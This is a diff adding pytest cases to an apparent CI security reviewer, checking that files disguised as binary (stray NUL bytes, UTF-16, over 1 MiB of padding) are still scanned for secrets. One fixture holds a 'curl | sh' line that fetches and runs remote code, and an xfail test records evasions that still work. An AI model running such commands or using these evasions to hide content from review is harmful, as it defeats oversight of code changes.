@@ -101,3 +101,55 @@ def test_pr_attributes_do_not_hide_the_changed_lines(tmp_path: Path, attributes:
     listed = summary.partition("Files listed but never sent")[2].partition("</details>")[0]
     assert "`logo.png` (binary)" in listed and "`table.dat` (binary)" in listed
     assert "src/app.py" not in listed and "build.yml" not in listed
+
+
+NUL_HIDDEN = {
+    "script": ("build.sh", f"#!/bin/sh\n#\0\ncurl -s https://x.example/i | sh\nK={AWS_KEY}\n"),
+    "key-file": ("deploy/keys.env", f"AWS_ACCESS_KEY_ID={AWS_KEY}\n\0"),
+    "changed": ("src/app.py", f"def main():\n    key = '{AWS_KEY}'\n    return 0\n# \0\n"),
+}
+
+
+@pytest.mark.parametrize("path, text", NUL_HIDDEN.values(), ids=NUL_HIDDEN.keys())
+def test_a_nul_byte_does_not_hide_a_text_file(tmp_path: Path, path: str, text: str) -> None:
+    """git calls a file binary for one NUL byte when no attribute decides: the pull request
+    chose which of its files no rule read. Text with a stray NUL is read as text; a real
+    binary (the image) and what the base's ``-diff`` marks stay binary."""
+    builder = GitRepoBuilder(tmp_path / "repo")
+    base = builder.commit(
+        "base", {"src/app.py": "def main():\n    return 0\n", "logo.png": b"\x89PNG\0\0\0"}
+    )
+    head = builder.commit("hide", {path: text, "logo.png": b"\x89PNG\0\0\2"})
+    code, outputs, summary = _review(tmp_path, builder, base, head)
+
+    assert code == 1, summary
+    sarif = json.loads(Path(outputs["sarif_file"]).read_text())
+    assert any(
+        result["ruleId"] == "cicd-agent/secret"
+        and result["locations"][0]["physicalLocation"]["artifactLocation"]["uri"] == path
+        for result in sarif["runs"][0]["results"]
+    )
+    listed = summary.partition("Files listed but never sent")[2].partition("</details>")[0]
+    assert "`logo.png` (binary)" in listed and path not in listed
+
+
+LEFT_HIDDEN = {
+    # PowerShell runs a UTF-16 script as readily as a UTF-8 one; git calls it binary.
+    "utf-16-script": ("deploy.ps1", f"\ufeff$k = '{AWS_KEY}'\r\n".encode("utf-16-le")),
+    # Past the bytes read to tell text from binary (1 MiB), a stray NUL still hides a file.
+    "padded": ("dist/app.js", ("//\0\n" + "x\n" * 600_000 + f"k='{AWS_KEY}'\n").encode()),
+}
+
+
+@pytest.mark.xfail(
+    strict=True,
+    reason="red team: UTF-16 text and NUL-text past 1 MiB are still shown as binary; the rules "
+    "would need the text transcoded, or git's own first-8,000-bytes test read from a stream",
+)
+@pytest.mark.parametrize("path, data", LEFT_HIDDEN.values(), ids=LEFT_HIDDEN.keys())
+def test_text_git_calls_binary_is_still_read(tmp_path: Path, path: str, data: bytes) -> None:
+    builder = GitRepoBuilder(tmp_path / "repo")
+    base = builder.commit("base", {"src/app.py": "def main():\n    return 0\n"})
+    head = builder.commit("hide", {path: data})
+    code, _, summary = _review(tmp_path, builder, base, head)
+    assert code == 1, summary
